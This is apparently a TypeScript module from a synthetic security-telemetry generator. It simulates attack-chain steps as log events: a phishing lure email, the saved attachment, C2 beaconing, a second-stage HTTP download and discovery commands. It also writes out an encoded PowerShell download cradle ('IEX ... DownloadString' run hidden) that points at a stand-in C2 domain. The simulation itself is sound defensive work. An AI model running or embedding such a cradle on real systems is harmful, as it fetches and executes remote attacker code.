/**
 * The moves attack chains share: a lure message from an outside sender, the attachment saved
 * into Downloads, a beacon to the attacker's server, a second stage fetched over plain HTTP,
 * and hands-on discovery commands.
 */
import { hashesOf, peBlob, type Hashes } from '../artifacts/lures.js';
import { C2_DOMAINS, IMAGES, LURE_SENDERS } from '../catalog.js';
import { buildEml, type MailAttachment } from '../formats/mime.js';
import { firstName, type Session } from '../habits.js';
import type { Rng } from '../prng.js';
import type { Proc, Workstation } from '../telemetry.js';

export const MINUTE = 60_000;

/** The attacker: who the lure comes from and where the implant calls home. */
export interface Actor {
  sender: { name: string; address: string };
  senderHost: string;
  senderIp: string;
  c2: { domain: string; ip: string };
}

export function newActor(rng: Rng): Actor {
  const domain = rng.pick(LURE_SENDERS);
  const who = rng.pick(['billing', 'accounts', 'invoices', 'hr-notice', 'docs']);
  return {
    sender: {
      name: rng.pick(['Accounts Payable', 'Billing Team', 'HR Department', 'DocuShare']),
      address: `${who}@${domain}`,
    },
    senderHost: `mail.${domain}`,
    senderIp: `198.51.100.${rng.int(2, 254)}`,
    c2: { domain: rng.pick(C2_DOMAINS), ip: `203.0.113.${rng.int(2, 254)}` },
  };
}

export function sendLure(
  ws: Workstation,
  t: number,
  actor: Actor,
  subject: string,
  text: string,
  attachment: MailAttachment,
): void {
  ws.mail(t, (clock) =>
    buildEml({
      time: clock,
      from: actor.sender,
      to: [ws.person.email],
      subject,
      text: `Hello ${firstName(ws)},\n\n${text}\n\nKind regards,\n${actor.sender.name}`,
      senderHost: actor.senderHost,
      senderIp: actor.senderIp,
      gateway: ws.org.mx,
      attachments: [attachment],
    }),
  );
}

export function tempPath(ws: Workstation): string {
  return `C:\\Users\\${ws.person.account}\\AppData\\Local\\Temp`;
}

export function downloadsPath(ws: Workstation, name: string): string {
  return `C:\\Users\\${ws.person.account}\\Downloads\\${name}`;
}

/** Outlook saves the attachment to Downloads; the file-integrity monitor sees it added. */
export function saveAttachment(
  ws: Workstation,
  s: Session,
  t: number,
  name: string,
  data: Buffer,
): string {
  const path = downloadsPath(ws, name);
  ws.write(t, s.outlook, path);
  ws.fim(t + 600, path.toLowerCase(), 'added', hashesOf(data));
  return path;
}

/** Look-up, connection and the proxy's tunnels every five minutes for `count` rounds. */
export function beacon(ws: Workstation, t: number, proc: Proc, actor: Actor, count: number): void {
  ws.dns(t, proc, actor.c2.domain, [actor.c2.ip]);
  for (let i = 0; i < count; i += 1) {
    const at = t + 200 + i * 5 * MINUTE + ws.rng.int(0, 4000);
    ws.connect(at, proc, actor.c2.ip, 443, actor.c2.domain);
    ws.web(at + 30_000, {
      method: 'CONNECT',
      url: `${actor.c2.domain}:443`,
      code: 'TCP_MISS/200',
      bytes: ws.rng.int(900, 5000),
      mime: '-',
      serverIp: actor.c2.ip,
      elapsedMs: 30_000 + ws.rng.int(0, 20),
    });
  }
}

/** `cmd /c whoami & ipconfig /all`, the first thing most implants run. */
export function discovery(ws: Workstation, t: number, parent: Proc): void {
  const cmd = ws.start(t, IMAGES.cmd, `${IMAGES.cmd} /c whoami & ipconfig /all`, parent);
  ws.start(t + 80, IMAGES.whoami, 'whoami', cmd);
}

/**
 * PowerShell fetches the next stage over plain HTTP (seen by the proxy and by Zeek, which
 * hashes the body), writes it to Temp and starts it; the stage beacons.
 */
export function secondStage(
  ws: Workstation,
  t: number,
  ps: Proc,
  actor: Actor,
): { path: string; hashes: Hashes } {
  const name = `${ws.rng.pick(['update', 'svc', 'msupd', 'helper'])}${ws.rng.int(10, 99)}.exe`;
  const data = peBlob(`second stage ${name}`, ws.rng);
  const hashes = hashesOf(data);
  const uri = `/s/${name}`;
  ws.dns(t, ps, actor.c2.domain, [actor.c2.ip]);
  ws.connect(t + 100, ps, actor.c2.ip, 80, actor.c2.domain);
  ws.web(t + 900, {
    method: 'GET',
    url: `http://${actor.c2.domain}${uri}`,
    code: 'TCP_MISS/200',
    bytes: data.length,
    mime: 'application/x-dosexec',
    serverIp: actor.c2.ip,
  });
  ws.zeek(t + 800, {
    server: actor.c2.ip,
    method: 'GET',
    host: actor.c2.domain,
    uri,
    userAgent: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.4391',
    status: 200,
    mime: 'application/x-dosexec',
    bytes: data.length,
    filename: name,
    hashes,
  });
  const path = `${tempPath(ws)}\\${name}`;
  ws.write(t + 1200, ps, path);
  const stage = ws.start(t + 3000, path, `"${path}"`, ps, { hashes });
  beacon(ws, t + 4000, stage, actor, 4);
  return { path, hashes };
}

/** An encoded PowerShell download cradle, as macros and scripts launch it. */
export function cradle(actor: Actor): string {
  const script = `IEX (New-Object Net.WebClient).DownloadString('http://${actor.c2.domain}/a')`;
  const encoded = Buffer.from(script, 'utf16le').toString('base64');
  return `"${IMAGES.powershell}" -nop -w hidden -enc ${encoded}`;
}
